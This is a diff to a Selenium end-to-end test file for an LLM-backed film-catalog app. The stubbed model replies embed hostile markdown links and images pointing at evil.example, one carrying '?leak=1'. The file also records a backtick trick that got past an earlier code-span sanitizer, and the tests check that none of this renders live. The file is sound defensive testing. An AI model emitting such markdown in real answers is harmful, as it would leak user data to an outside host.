@@ -7,6 +7,7 @@ Each test saves a screenshot under its tmp_path (`*.png`) and the app log (`app.
 from __future__ import annotations
 
 import json
+import re
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -45,16 +46,22 @@ DRAFTED_SQL = (
 ANSWER = "Jurassic Park (1993) is the pick: dinosaurs on an island. [more](http://evil.example/x) ![p](http://evil.example/p.png)"
 ANSWER_SHOWN = "Jurassic Park (1993) is the pick: dinosaurs on an island."
 # issue 14's bypass of the old code-span rule: one backtick "closed" by two
-GENERIC = "Here is what your catalog has. ` ![q](http://evil.example/q.png?leak=1) ``"
-GENERIC_SHOWN = "Here is what your catalog has."
+GENERIC = "Here is what your catalog has: {film}. ` ![q](http://evil.example/q.png?leak=1) ``"
+GENERIC_SHOWN = "Here is what your catalog has:"
+_FIRST_ROW = re.compile(r'"title": ("(?:[^"\\]|\\.)*"), "year": (\d{4})')
 
 
 def _reply(request) -> str:
-    """SQL drafting asks for JSON; the Spielberg question gets an answer naming a demo title; any
-    other question a title-free answer carrying hostile markdown."""
+    """SQL drafting asks for JSON; the running-time questions get an answer naming a demo title; any
+    other question an answer naming the first row it was given (so the usability gate keeps it),
+    carrying hostile markdown. Keyed on the question's words, not on "Spielberg": rows name him."""
     if request.format:
         return json.dumps({"sql": DRAFTED_SQL})
-    return ANSWER if "Spielberg" in request.last_user else GENERIC
+    if "running time" in request.last_user:
+        return ANSWER
+    first = _FIRST_ROW.search(request.last_user)
+    film = f"{json.loads(first.group(1))} ({first.group(2)})" if first else "nothing"
+    return GENERIC.format(film=film)
 
 
 @pytest.fixture(scope="module")
@@ -139,7 +146,7 @@ def test_one_view_per_answer_kind_how_i_found_this_and_settings(app_with_llm, de
     with chromium(tmp_path) as driver:
         driver.get(app_with_llm)
         click(driver, wait_for(driver, lambda: [b for b in driver.find_elements("css selector", "#starters button")
-                                                if b.text.strip() == question], what="starter", screenshot=shot)[0])
+                                                if b.text.strip() == question and b.is_enabled()], what="starter", screenshot=shot)[0])
         _wait_answer(driver, GENERIC_SHOWN, shot)
         # the hostile markdown never becomes a live image or link
         assert not driver.find_elements("css selector", "a[href*='evil.example'], img[src*='evil.example']")
@@ -150,7 +157,7 @@ def test_one_view_per_answer_kind_how_i_found_this_and_settings(app_with_llm, de
         th = driver.find_elements("css selector", "[data-testid=rows-table] td")
         assert th and all(td.value_of_css_property("font-weight") in ("400", "normal") for td in th[1:4])
         text = _how_found(driver)
-        assert "Nearest films: k = 8, metric cosine" in text and "SQL that ran (from the plan)" in text
+        assert "Read as: films similar to a title" in text and "Nearest films: k = 8, metric cosine" in text
         assert not driver.find_elements("id", "step-understand")  # node names only in the debug view
         driver.save_screenshot(str(shot))
 
@@ -242,7 +249,8 @@ def test_no_llm_answers_from_the_catalog_and_errors_read_well(demo_db, tmp_path)
         driver.get(url)
         about = wait_for(driver, lambda: driver.find_elements("id", "mr-about"), what="landing line", screenshot=shot)[0]
         assert "Answering from the catalog: no LLM reachable" in about.text
-        click(driver, driver.find_elements("css selector", "#starters button")[0])
+        click(driver, wait_for(driver, lambda: [b for b in driver.find_elements("css selector", "#starters button")
+                                                if b.is_enabled()], what="starter", screenshot=shot)[0])
         wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-off"), what="answer", screenshot=shot)
         text = page_text(driver)
         assert "Answering from the catalog without an LLM (no LLM reachable)." in text
